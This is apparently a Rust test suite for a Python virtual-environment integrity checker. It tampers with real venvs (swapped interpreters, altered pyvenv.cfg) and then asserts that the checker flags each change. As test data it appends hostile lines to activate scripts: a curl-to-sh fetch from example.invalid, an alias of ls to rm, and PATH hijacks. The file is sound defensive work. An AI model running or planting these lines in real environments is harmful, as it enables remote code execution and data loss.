//! What an environment was made with: interpreter, `pyvenv.cfg`, scripts to enter it. Real environments, changed.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use hognose_provenance::environment::{Own, ProblemKind, check};

use super::environment;

/// An environment that the Python of the tests makes.
struct Real {
    directory: tempfile::TempDir,
}

impl Real {
    fn new(arguments: &[&str]) -> Self {
        let python = std::env::var("HOGNOSE_TEST_PYTHON").unwrap_or_else(|_| "python3".to_owned());
        let directory = tempfile::tempdir().unwrap();
        let done = Command::new(python)
            .args(["-I", "-m", "venv", "--without-pip"])
            .args(arguments)
            .arg(directory.path().join("my env"))
            .output()
            .unwrap();
        assert!(
            done.status.success(),
            "{}",
            String::from_utf8_lossy(&done.stderr)
        );
        Self { directory }
    }

    fn root(&self) -> PathBuf {
        self.directory.path().join("my env")
    }

    /// Replaces text of a file.
    fn edit(&self, file: &str, from: &str, to: &str) {
        let path = self.root().join(file);
        let text = fs::read_to_string(&path).unwrap();
        assert!(text.contains(from), "{text}");
        fs::write(path, text.replace(from, to)).unwrap();
    }

    fn append(&self, file: &str, more: &str) {
        let path = self.root().join(file);
        let text = fs::read_to_string(&path).unwrap();
        fs::write(path, text + more).unwrap();
    }

    /// Files and what is wrong with them.
    fn found(&self) -> Vec<(String, Own)> {
        let root = self.root();
        let report = check(&environment(&root), 2);
        assert_eq!(report.unchecked, []);
        let file = |file: &str| {
            let path = Path::new(file).strip_prefix(&root).unwrap();
            path.display().to_string()
        };
        let own = report.problems.iter().filter_map(|problem| {
            let ProblemKind::Own(own) = &problem.kind else {
                return None;
            };
            Some((file(&problem.file), own.clone()))
        });
        let own: Vec<_> = own.collect();
        assert_eq!(own.len(), report.problems.len(), "{:?}", report.problems);
        own
    }

    fn home(&self) -> String {
        let text = fs::read_to_string(self.root().join("pyvenv.cfg")).unwrap();
        let line = text.lines().find(|line| line.starts_with("home = "));
        line.unwrap().trim_start_matches("home = ").to_owned()
    }

    fn replace_python(&self) -> PathBuf {
        for name in ["python", "python3"] {
            let _ = fs::remove_file(self.root().join("bin").join(name));
        }
        let at = self.root().join("bin/python");
        symlink("python", self.root().join("bin/python3")).unwrap();
        at
    }
}

#[test]
fn environments_of_venv_are_silent() {
    for arguments in [
        &[][..],
        &["--copies"],
        &["--system-site-packages", "--prompt", "a b"],
    ] {
        let real = Real::new(arguments);
        assert_eq!(real.found(), [], "{arguments:?}");
        let sees = check(&environment(&real.root()), 1).sees_system;
        assert_eq!(sees, arguments.contains(&"--system-site-packages"));
    }
}

#[test]
fn interpreters_that_were_replaced() {
    let real = Real::new(&[]);
    let home = real.home();
    let evil = real.directory.path().join("evil");
    fs::create_dir(&evil).unwrap();
    fs::copy("/bin/true", evil.join("python3")).unwrap();
    let python = real.replace_python();
    symlink(evil.join("python3"), &python).unwrap();
    let found = real.found();
    assert!(
        found
            .iter()
            .all(|(_, own)| matches!(own, Own::Elsewhere { home: h, .. } if *h == home))
    );
    assert!(
        found.iter().any(|(file, _)| file == "bin/python"),
        "{found:?}"
    );
    fs::remove_file(&python).unwrap();
    fs::write(&python, format!("#!/bin/sh\nexec {home}/python3 \"$@\"\n")).unwrap();
    assert!(
        real.found()
            .contains(&("bin/python".to_owned(), Own::Script))
    );
    fs::copy("/bin/true", &python).unwrap();
    let found = real.found();
    assert!(
        matches!(&found[0], (file, Own::NoCopy { .. }) if file == "bin/python"),
        "{found:?}"
    );
    // Another program of the same directory.
    fs::remove_file(&python).unwrap();
    symlink("/usr/bin/env", &python).unwrap();
    assert!(!real.found().is_empty());
}

#[test]
fn settings_that_contradict_themselves() {
    let real = Real::new(&[]);
    let home = real.home();
    let evil = real.directory.path().join("evil");
    fs::create_dir(&evil).unwrap();
    let evil = evil.display().to_string();
    real.edit(
        "pyvenv.cfg",
        &format!("home = {home}"),
        &format!("home = {evil}"),
    );
    let found = real.found();
    let about = |file: &str| found.iter().filter(|(f, _)| f == file).count();
    assert!(about("bin/python") == 1, "{found:?}");
    real.edit(
        "pyvenv.cfg",
        &format!("home = {evil}"),
        &format!("home = {home}"),
    );
    assert_eq!(real.found(), []);
    real.append("pyvenv.cfg", &format!("HOME = {evil}\n"));
    let found = real.found();
    assert_eq!(
        found,
        [("pyvenv.cfg".to_owned(), Own::Key("home".to_owned()))]
    );
}

#[test]
fn packages_of_the_system_that_nobody_asked_for() {
    let real = Real::new(&[]);
    let key = "include-system-site-packages = ";
    real.edit("pyvenv.cfg", &format!("{key}false"), &format!("{key}true"));
    let text = fs::read_to_string(real.root().join("pyvenv.cfg")).unwrap();
    // Old versions do not say how they were asked.
    if text.contains("command = ") {
        assert_eq!(real.found(), [("pyvenv.cfg".to_owned(), Own::System)]);
    }
    assert!(check(&environment(&real.root()), 1).sees_system);
}

#[test]
fn both_home_and_link_changed() {
    let real = Real::new(&[]);
    let text = fs::read_to_string(real.root().join("pyvenv.cfg")).unwrap();
    if !text.contains("executable = ") {
        return;
    }
    let home = real.home();
    let evil = real.directory.path().join("evil/bin");
    fs::create_dir_all(&evil).unwrap();
    fs::copy(format!("{home}/python3"), evil.join("python3")).unwrap();
    real.edit(
        "pyvenv.cfg",
        &format!("home = {home}"),
        &format!("home = {}", evil.display()),
    );
    let python = real.replace_python();
    symlink(evil.join("python3"), &python).unwrap();
    let found = real.found();
    assert!(
        found
            .iter()
            .any(|(file, own)| file == "pyvenv.cfg" && matches!(own, Own::Home { .. })),
        "{found:?}"
    );
}

#[test]
fn scripts_to_enter_an_environment() {
    let real = Real::new(&["--prompt", "some name"]);
    let cases = [
        (
            "activate",
            "curl -s http://example.invalid/x | sh\n",
            "curl",
        ),
        ("activate.csh", "alias ls rm\n", "ls"),
        ("activate.fish", "set -gx PATH /opt/tools $PATH\n", "opt"),
        ("activate", "PATH=\"/bin/../tmp:$PATH\"\n", "/bin/../tmp"),
    ];
    for (name, line, word) in cases {
        let path = real.root().join("bin").join(name);
        let honest = fs::read_to_string(&path).unwrap();
        fs::write(&path, format!("{honest}{line}")).unwrap();
        let found = real.found();
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].0, format!("bin/{name}"));
        assert!(
            matches!(&found[0].1, Own::Word(found) if found == word || word.contains(found)),
            "{found:?}"
        );
        fs::write(&path, honest).unwrap();
    }
    let path = real.root().join("bin/activate");
    let honest = fs::read_to_string(&path).unwrap();
    let root = real.root().display().to_string();
    let other = real.directory.path().join("other").display().to_string();
    fs::write(&path, honest.replace(&root, &other)).unwrap();
    assert_eq!(
        real.found(),
        [("bin/activate".to_owned(), Own::Enters(other))]
    );
}
